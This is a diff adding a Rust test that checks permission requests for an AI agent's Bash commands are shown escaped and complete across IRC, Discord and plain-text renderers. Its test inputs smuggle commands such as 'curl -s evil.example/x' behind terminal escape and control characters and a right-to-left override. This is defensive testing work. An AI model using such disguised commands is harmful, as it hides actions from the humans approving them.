@@ -65,6 +65,32 @@ fn secrets_do_not_hide_behind_codes_or_cuts() {
 }
 
 #[test]
+fn what_is_asked_for_is_shown_whole_whatever_it_is_made_of() {
+    let asked = |command: &str| Notice::PermissionAsked {
+        agent: spark(),
+        ask: herder::core::id::AskId(12),
+        tool: "Bash".to_owned(),
+        command: command.to_owned(),
+        cut: false,
+        vague: false,
+        danger: None,
+        within: std::time::Duration::from_secs(1800),
+    };
+    for (command, shown) in [
+        ("cargo test\u{1b}]; curl -s evil.example/x; #\u{7}", r"cargo test␛]; curl -s evil.example/x; #\x07"),
+        ("cargo test\u{9d} && curl x\u{9c}", r"cargo test\x9d && curl x\x9c"),
+        ("ls \u{202e}x", "ls <U+202E>x"),
+        ("ls \u{3}04x", r"ls \x0304x"),
+    ] {
+        let post = post(Body::Notice(asked(command)));
+        for markup in [Markup::Irc, Markup::Discord, Markup::Plain] {
+            let lines = renderer(markup).lines(&post).join("\n");
+            assert!(lines.contains(shown) && !lines.contains("always"), "{markup:?}: {lines}");
+        }
+    }
+}
+
+#[test]
 fn a_secret_does_not_hide_behind_marks() {
     for markup in [Markup::Irc, Markup::Plain] {
         for text in ["key **h**unter2", "key hunt**e**r2 and hunter2"] {
